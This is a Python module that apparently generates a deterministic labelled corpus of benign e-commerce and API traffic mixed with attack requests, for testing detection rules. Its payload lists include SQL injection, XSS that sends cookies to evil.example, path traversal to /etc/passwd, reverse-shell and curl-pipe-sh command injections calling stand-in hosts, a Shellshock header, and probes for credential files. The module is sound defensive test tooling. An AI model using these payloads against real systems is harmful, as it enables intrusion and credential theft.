"""A deterministic sample corpus: benign shop/API traffic and labelled attacks.

`generate_corpus(count, seed=...)` returns the same records for the same arguments on every
run and platform (it draws only from its own random.Random(seed)). Benign traffic includes
hard cases that naive rules flag (searches for "select comfort", "drop earrings", an
O'Brien, scripted API clients), so false-positive rates are not trivially zero; some attacks
are obfuscated so that detection rates are not trivially one.
"""

from __future__ import annotations

import random
import urllib.parse
from typing import Final

from shieldx.shadow.rules.records import AttackType, Label, TrafficRecord, normalize_record

_BROWSERS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 Chrome/124.0 Mobile Safari/537.36",
)
_API_CLIENTS: Final = (
    "python-requests/2.31.0",
    "curl/8.5.0",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
)
_SCANNERS: Final = (
    "sqlmap/1.8.3#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "gobuster/3.6",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
)
_PROBES: Final = (
    "/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php", "/phpmyadmin/index.php",
    "/server-status", "/actuator/env", "/backup.zip", "/.aws/credentials", "/db.sql", "/admin/config.bak",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/xmlrpc.php", "/.DS_Store",
)  # fmt: skip
_SQLI: Final = (
    "1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "1; DROP TABLE users--",
    "1 AND SLEEP(5)", "1' AND 1=CONVERT(int,@@version)--", "admin'--", "-1 union all select 1,2,3",
    "' or ''='", "1 AND 1=1", "1;waitfor delay '0:0:5'--", "1 and benchmark(10000000,md5(1))",
    "1 AND (SELECT 1 FROM information_schema.tables LIMIT 1)", "1'/**/UNION/**/SELECT/**/null--",
    "1 UN/**/ION SEL/**/ECT password FROM users",
)  # fmt: skip
_XSS: Final = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
    "<svg/onload=alert(1)>", "\"><iframe src=javascript:alert(1)>", "<body onload=alert('x')>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "';window.location='http://evil.example/'+document.cookie;//",
)  # fmt: skip
_TRAVERSAL_QUERY: Final = (
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/shadow", "/etc/passwd",
    "..\\..\\windows\\win.ini", "../../../proc/self/environ", "%2e%2e/%2e%2e/boot.ini",
)  # fmt: skip
_TRAVERSAL_PATH: Final = (
    "/static/../../../../etc/passwd", "/..%252f..%252f..%252fetc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    "/images/%2e%2e/%2e%2e/etc/hosts",
)  # fmt: skip
_CMDI: Final = (
    "127.0.0.1;cat /etc/passwd", "8.8.8.8|nc 203.0.113.9 4444 -e /bin/sh", "$(curl http://evil.example/x.sh|sh)",
    "`id`", ";wget http://evil.example/bot -O /tmp/b", "1.1.1.1&&whoami", "x;bash -i >& /dev/tcp/203.0.113.9/9001 0>&1",
    "1.1.1.1 ; uname -a",
)  # fmt: skip
_HARD_SEARCHES: Final = (
    "select comfort mattress", "union jack flag", "drop earrings", "o'brien shoes", "javascript book",
    "sleep mask", "script writing course", "cat toys", "and 1 more", "or 2 gifts",
)  # fmt: skip
_SEARCHES: Final = (
    "red shoes",
    "laptop bag",
    "wireless mouse",
    "coffee grinder",
    "yoga mat",
    "desk lamp",
)
_COUNTRIES: Final = ("US", "US", "US", "DE", "FR", "GB", "JP", "BR", "IN", "CA", "NL", "ES")
_ASNS: Final = (7922, 3320, 12322, 2856, 4713, 28573, 55836, 812, 1136, 3352)
_HOSTING_ASNS: Final = (14061, 16509, 24940, 16276, 63949)
_TENANTS: Final = ("acme", "globex", "initech", "umbrella")


def generate_corpus(
    count: int = 5000, *, seed: int = 20240601, attack_share: float = 0.25
) -> list[TrafficRecord]:
    """Generate `count` labelled records, about `attack_share` of them malicious."""
    if count < 0 or not 0.0 <= attack_share <= 1.0:
        raise ValueError("count must be >= 0 and attack_share between 0 and 1")
    rng = random.Random(seed)
    return [_attack(rng) if rng.random() < attack_share else _benign(rng) for _ in range(count)]


def _client(rng: random.Random) -> dict[str, object]:
    if rng.random() < 0.1:
        ip = f"2a01:e0a:{rng.randrange(1, 0xFFFF):x}::{rng.randrange(1, 0xFFFF):x}"
    else:
        ip = f"{rng.choice((24, 73, 81, 92, 2, 86, 101))}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    return {
        "ip": ip,
        "country": rng.choice(_COUNTRIES),
        "asn": rng.choice(_ASNS),
        "tenant": rng.choice(_TENANTS),
    }


def _headers(rng: random.Random, user_agent: str, *, body: int = 0) -> dict[str, str]:
    headers = {
        "Host": "shop.example.com",
        "User-Agent": user_agent,
        "Accept": "text/html,application/json;q=0.9,*/*;q=0.8",
        "Accept-Language": rng.choice(("en-US,en;q=0.9", "de-DE,de;q=0.8", "fr-FR,fr;q=0.9")),
        "Accept-Encoding": "gzip, deflate, br",
    }
    if rng.random() < 0.6:
        headers["Cookie"] = f"session={rng.getrandbits(64):016x}; theme=light"
    if rng.random() < 0.4:
        headers["Referer"] = "https://shop.example.com/"
    if body:
        headers["Content-Type"] = rng.choice(
            ("application/json", "application/x-www-form-urlencoded")
        )
        headers["Content-Length"] = str(body)
    return headers


def _encode(rng: random.Random, payload: str) -> str:
    style = rng.random()
    if style < 0.4:
        return urllib.parse.quote_plus(payload, safe="")
    if style < 0.7:
        return urllib.parse.quote(payload, safe="/")
    return payload.replace(" ", "+")


def _benign(rng: random.Random) -> TrafficRecord:
    client = _client(rng)
    user_agent = rng.choice(_API_CLIENTS) if rng.random() < 0.12 else rng.choice(_BROWSERS)
    method, body, query = "GET", 0, ""
    roll = rng.random()
    if roll < 0.25:
        path = rng.choice(
            ("/", "/index.html", "/favicon.ico", "/robots.txt", "/static/css/site.css")
        )
        path = f"/static/js/app.{rng.getrandbits(32):08x}.js" if rng.random() < 0.3 else path
    elif roll < 0.5:
        path = f"/products/{rng.randrange(1, 50000)}"
        query = rng.choice(
            ("", "color=red&size=m", "ref=home", "utm_source=newsletter&utm_medium=email")
        )
    elif roll < 0.65:
        path = "/search"
        words = rng.choice(_HARD_SEARCHES) if rng.random() < 0.15 else rng.choice(_SEARCHES)
        query = f"q={urllib.parse.quote_plus(words)}&page={rng.randrange(1, 6)}"
    elif roll < 0.85:
        path = rng.choice(
            ("/api/v1/orders", "/api/v1/cart", f"/api/v1/orders/{rng.randrange(1, 10**6)}")
        )
        query = f"limit={rng.choice((10, 20, 50))}&offset={rng.randrange(0, 500, 10)}"
        if rng.random() < 0.4:
            method, body = rng.choice(("POST", "PUT")), rng.randrange(80, 20000)
    elif roll < 0.93:
        path, method, body = "/login", "POST", rng.randrange(40, 400)
    elif roll < 0.97:
        path, method, body = "/upload", "POST", rng.randrange(10_000, 5_000_000)
    else:
        path, client["ip"], user_agent = (
            "/healthz",
            f"10.0.{rng.randrange(4)}.{rng.randrange(2, 250)}",
            "kube-probe/1.29",
        )
    raw = {**client, "method": method, "path": path, "query": query, "body_size": body}
    raw["headers"] = _headers(rng, user_agent, body=body)
    return TrafficRecord(normalize_record(raw), Label.BENIGN, None)


def _attack(rng: random.Random) -> TrafficRecord:
    client = _client(rng)
    if rng.random() < 0.3:
        client["asn"] = rng.choice(_HOSTING_ASNS)
    if rng.random() < 0.08:
        client["ip"] = f"{rng.choice(('198.51.100', '203.0.113'))}.{rng.randrange(1, 255)}"
    kind = rng.choice(tuple(AttackType))
    user_agent = rng.choice(_BROWSERS + _API_CLIENTS)
    path, query = rng.choice(("/products/1", "/search", "/api/v1/orders", "/download", "/ping")), ""
    extra: dict[str, str] = {}
    if kind is AttackType.SQL_INJECTION:
        payload = rng.choice(_SQLI)
        if rng.random() < 0.15:
            extra["Cookie"] = f"session={urllib.parse.quote(payload)}"
        else:
            query = f"id={_encode(rng, payload)}"
    elif kind is AttackType.XSS:
        query = (
            f"{rng.choice(('q', 'name', 'redirect', 'callback'))}={_encode(rng, rng.choice(_XSS))}"
        )
        if rng.random() < 0.1:
            query, extra["Referer"] = "", f"https://shop.example.com/?q={rng.choice(_XSS)}"
    elif kind is AttackType.PATH_TRAVERSAL:
        if rng.random() < 0.4:
            path = rng.choice(_TRAVERSAL_PATH)
        else:
            path, query = "/download", f"file={_encode(rng, rng.choice(_TRAVERSAL_QUERY))}"
    elif kind is AttackType.COMMAND_INJECTION:
        query = f"host={_encode(rng, rng.choice(_CMDI))}"
        if rng.random() < 0.1:
            user_agent = "() { :; }; /bin/bash -c 'cat /etc/passwd'"
    else:
        user_agent = rng.choice(_SCANNERS) if rng.random() < 0.8 else ""
        path = rng.choice(_PROBES)
    raw = {**client, "method": "GET", "path": path, "query": query, "body_size": 0}
    raw["headers"] = {**_headers(rng, user_agent), **extra}
    return TrafficRecord(normalize_record(raw), Label.MALICIOUS, kind)
